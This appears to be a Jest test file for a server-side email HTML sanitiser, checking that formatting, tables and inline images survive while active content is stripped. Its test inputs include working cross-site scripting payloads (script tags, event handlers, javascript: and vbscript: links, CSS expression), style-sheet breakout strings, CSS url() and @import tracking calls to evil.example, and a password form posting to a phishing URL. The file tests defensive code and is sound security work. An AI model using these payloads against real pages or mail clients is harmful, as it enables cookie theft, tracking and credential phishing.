// The server-side sanitiser of received HTML: formatting, tables and inline images stay; script,
// event handlers, script URLs, CSS that loads or runs, forms, frames, objects, meta refresh and
// base are gone; links open without opener or referrer.
import { sanitizeEmailHtml } from '../../core/mail/sanitizeHtml';

const PIXEL =
	'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';

describe('sanitizeEmailHtml', () => {
	it('keeps formatting, tables, inline images and harmless inline styles', () => {
		const html = `<div style="color: #333; font-size: 14px"><p><b>Bold</b> <i>it</i> <u>u</u></p>
			<table border="0" cellpadding="4"><tr><td colspan="2" style="background-color: rgb(250, 250, 250)">Cell</td></tr></table>
			<ul><li>one</li></ul><img src="${PIXEL}" alt="dot" width="1"><img src="cid:logo@acme" alt="logo">
			<a href="https://acme.example/offer">Offer</a> <a href="mailto:ann@acme.example">Mail</a></div>`;
		const clean = sanitizeEmailHtml(html);
		expect(clean).toContain('<b>Bold</b>');
		expect(clean).toContain(
			'<td colspan="2" style="background-color:rgb(250, 250, 250)">Cell</td>',
		);
		expect(clean).toContain('style="color:#333;font-size:14px"');
		expect(clean).toContain(`<img src="${PIXEL}" alt="dot" width="1" />`);
		expect(clean).toContain('<img src="cid:logo@acme" alt="logo" />');
		expect(clean).toContain(
			'<a href="https://acme.example/offer" target="_blank" rel="noopener noreferrer">Offer</a>',
		);
		expect(clean).toContain('href="mailto:ann@acme.example"');
	});

	it('removes script, event handlers and javascript:/vbscript:/data: links', () => {
		const clean =
			sanitizeEmailHtml(`<p onclick="steal()">Hi<script>alert(document.cookie)</script></p>
			<img src="${PIXEL}" onerror="alert(1)" onload="alert(2)">
			<a href="javascript:alert(1)">js</a><a href="JaVaScRiPt&#58;alert(1)">js2</a>
			<a href=" vbscript:msgbox(1)">vb</a><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>
			<svg><script>alert(3)</script><circle onload="alert(4)"/></svg><math><mi xlink:href="javascript:alert(5)">x</mi></math>
			<body onload="alert(6)"><div style="width: expression(alert(7))">e</div>`);
		expect(clean).not.toMatch(
			/script|alert|onerror|onload|onclick|javascript|vbscript|data:text|expression|svg|math/i,
		);
		expect(clean).toContain('<p>Hi</p>');
		// The links stay as text without their href.
		expect(clean).toMatch(/<a>js<\/a>/);
	});

	it('removes CSS that loads from elsewhere: url(), @import, <style>, <link>, remote images, background', () => {
		const clean =
			sanitizeEmailHtml(`<style>@import url(https://evil.example/a.css); p { background: url(https://evil.example/leak?q=1) }</style>
			<link rel="stylesheet" href="https://evil.example/b.css">
			<p style="background-image: url('https://evil.example/c.png'); color: red">styled</p>
			<p style="background: u\\72l(https://evil.example/d.png)">escaped</p>
			<div style="behavior: url(x.htc); -moz-binding: url(https://evil.example/x.xml)">b</div>
			<table background="https://evil.example/t.png"><tr><td>t</td></tr></table>
			<img src="https://evil.example/pixel.gif" alt="track"><img src="//evil.example/p.gif"><img srcset="https://evil.example/s.png 1x">
			<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">`);
		expect(clean).not.toContain('evil.example');
		expect(clean).not.toMatch(/url\(|@import|<style|<link|<img|svg/i);
		expect(clean).toContain('<p style="color:red">styled</p>');
	});

	it("keeps the email's own style sheet, filtered like inline styles, in one <style> before the body", () => {
		const clean = sanitizeEmailHtml(`<html><head><style type="text/css">
			/* layout */
			.wrapper { max-width: 600px; margin: 0 auto; background-color: #f4f4f4 }
			h1, .title { font-size: 22px; color: rgb(20, 20, 20) !important }
			.hero { background-image: url(https://evil.example/hero.png); color: #fff; position: fixed }
			@media only screen and (max-width: 600px) { .wrapper { width: 100% } .x { background: url(https://evil.example/m.png) } }
			@media url(https://evil.example/q) { p { color: red } }
			@import url(https://evil.example/a.css);
			@font-face { font-family: Leak; src: url(https://evil.example/font.woff) }
			@keyframes spin { from { width: 1px } }
			a[href^="https://bank"] { color: blue }
			.esc { font-family: \\75rl }
			</style></head><body><div class="wrapper"><h1 class="title">Hello</h1></div>
			<style>p.note { font-weight: bold; width: expression(alert(1)) }</style><p class="note">n</p></body></html>`);
		const sheet = /^<style>([^<]*)<\/style>/.exec(clean)?.[1] ?? '';
		expect(clean.match(/<style>/g)).toHaveLength(1);
		expect(sheet).toContain(
			'.wrapper { max-width: 600px; margin: 0 auto; background-color: #f4f4f4 }',
		);
		expect(sheet).toContain('h1, .title { font-size: 22px; color: rgb(20, 20, 20) !important }');
		expect(sheet).toContain('.hero { color: #fff }');
		expect(sheet).toContain(
			'@media only screen and (max-width: 600px) { .wrapper { width: 100% } }',
		);
		expect(sheet).toContain('a[href^="https://bank"] { color: blue }');
		expect(sheet).toContain('p.note { font-weight: bold }');
		expect(sheet).not.toMatch(
			/url|evil|@import|font-face|keyframes|position|expression|\\|Leak|\/\*|\.esc|\.x /i,
		);
		// The classes the sheet selects by stay on the elements.
		expect(clean).toContain('<div class="wrapper"><h1 class="title">Hello</h1></div>');
		expect(clean).toContain('<p class="note">n</p>');
	});

	it('a style sheet cannot close its element or smuggle markup', () => {
		for (const attack of [
			'<style>p { color: red } </style><script>alert(1)</script>',
			'<style>a[title="</style><img src=x onerror=alert(2)>"] { color: red }</style>',
			'<style>p { font-family: "</style><script>alert(3)</script>" }</style>',
			'<svg><style>p { color: red }</style><script>alert(4)</script></svg>',
			'<style>p { color: red }',
		]) {
			const clean = sanitizeEmailHtml(attack);
			expect(clean).not.toMatch(/<script|onerror|<img|<svg|alert\(/i);
			const sheets = clean.match(/<style>[^]*?<\/style>/g) ?? [];
			for (const sheet of sheets) expect(sheet.slice(7, -8)).not.toContain('<');
		}
	});

	it('removes forms, frames, objects, meta refresh and base', () => {
		const clean =
			sanitizeEmailHtml(`<form action="https://evil.example/phish" method="post"><input name="password" type="password"><button formaction="https://evil.example">Log in</button><textarea>t</textarea><select><option>o</option></select></form>
			<iframe src="https://evil.example/frame"></iframe><frameset><frame src="https://evil.example/f"></frameset>
			<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e.swf"><applet code="x"></applet>
			<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
			<a href="relative/path">rel</a>`);
		expect(clean).not.toMatch(
			/evil\.example|<form|<input|<button|<textarea|<select|<iframe|<frame|<object|<embed|<applet|<meta|<base/i,
		);
		expect(clean).toContain('Log in');
	});

	it('gives an empty text for no HTML', () => {
		expect(sanitizeEmailHtml(null)).toBe('');
		expect(sanitizeEmailHtml('')).toBe('');
	});
});
